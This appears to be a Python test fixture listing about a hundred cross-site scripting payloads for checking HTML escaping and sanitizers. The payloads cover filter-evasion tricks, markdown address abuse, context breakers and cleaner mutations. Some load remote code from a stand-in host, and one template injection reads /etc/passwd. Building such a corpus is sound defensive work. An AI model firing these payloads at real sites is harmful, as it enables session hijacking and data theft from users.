r"""A hundred texts that would run a script, or ask another host, if one page forgot to escape or to clean.

They follow the families of OWASP's cheat sheets on script injection and filter evasion, and of the mutations
that have broken HTML cleaners. Each calls ``ran()``, which no page has, or asks ``ond.example``.
"""

from typing import Final

SCRIPTS: Final = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT >",
    "<script src=//ond.example/a.js></script>",
    "<script/x>ran()</script>",
    "<script\n>ran()</script\n>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    "<script>ran()//",
    "<script type=module>ran()</script>",
    '<script type="text/javascript">ran()</script>',
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
)
HANDLERS: Final = (
    "<img src=x onerror=ran()>",
    "<img/src='x'/onerror='ran()'>",
    "<img src=x:x onerror\n=\nran()>",
    "<IMG SRC=x ONERROR=ran()>",
    "<img src='x' onerror=&#114;an()>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()><option>x</select>",
    "<details open ontoggle=ran()>x</details>",
    "<video src=x onerror=ran()></video>",
    "<audio src=x onerror=ran()></audio>",
    "<video><source onerror=ran()></video>",
    "<marquee onstart=ran()>x</marquee>",
    "<p style='animation-name:x' onanimationstart=ran()>x</p>",
    "<a onmouseover=ran() href=https://exempel.se/>x</a>",
    "<xss tabindex=1 id=x onfocus=ran()>x</xss>",
    "<div contenteditable autofocus onfocus=ran()>x</div>",
    "<button popovertarget=x>x</button><i popover id=x onbeforetoggle=ran()>x</i>",
)
VECTORS: Final = (
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+#x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:ran()></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
    "<?xml-stylesheet href=javascript:ran()?><x xmlns='http://www.w3.org/1999/xhtml'><script>ran()</script></x>",
)
FRAMES: Final = (
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=//ond.example/></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<object data='data:text/html,<script>parent.ran()</script>'></object>",
    "<base href=//ond.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<meta http-equiv=refresh content='0;url=//ond.example/'>",
    "<link rel=stylesheet href=//ond.example/a.css>",
    "<form action=javascript:ran()><button autofocus>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:ran()>x</button>",
)
ADDRESSES: Final = (
    "[x](javascript:ran())",
    "[x](JaVaScRiPt:ran())",
    "[x](java&#10;script:ran())",
    "[x](java\tscript:ran())",
    "[x](&#106;&#97;vascript:ran())",
    "[x](javascript&colon;ran())",
    "[x](&#x01;javascript:ran())",
    "[x](vbscript:ran())",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "[x](<javascript:ran()>)",
    "[x](//ond.example/)",
    "[x](/\\ond.example/)",
    "[x]: javascript:ran()\n\n[x]",
    "<javascript:ran()>",
    "![x](javascript:ran())",
    "![x](//ond.example/a.png)",
    '![x" onerror="ran()](x)',
    '[x](https://exempel.se/ "x\\" onmouseover=\\"ran()")',
    "[x](https://exempel.se/'onmouseover='ran())",
    "[<img src=x onerror=ran()>](https://exempel.se/)",
    "`<script>ran()</script>`",
    "<a href='javascript:ran()'>x</a>",
    '<a href="\x09javascript:ran()">x</a>',
)
BREAKERS: Final = (
    '" autofocus onfocus="ran()',
    "' autofocus onfocus='ran()",
    '"><script>ran()</script>',
    "'><img src=x onerror=ran()>",
    "</title><script>ran()</script>",
    "</textarea></style></script><script>ran()</script>",
    '</script><script>ran()</script>{"@context":"x"}',
    '\\"}</script><svg onload=ran()>',
    "<!--<script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    "${ran()}`;ran();//",
    "';ran();//\";ran();//",
    "{{ ''.__class__.__mro__ }}{{ ran() }}",
    "{% include '/etc/passwd' %}{% raw %}<script>ran()</script>",
)
MUTATIONS: Final = (
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=ran()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
)
STYLES: Final = (
    "<style>@import '//ond.example/a.css';</style>",
    "<p style='background:url(//ond.example/a.png)'>x</p>",
    "}*{background:url(//ond.example/a.png)}",
    "<style>*{background:url('//ond.example/b.png')}</style>",
)

PAYLOADS: Final = (
    *SCRIPTS,
    *HANDLERS,
    *VECTORS,
    *FRAMES,
    *ADDRESSES,
    *BREAKERS,
    *MUTATIONS,
    *STYLES,
)
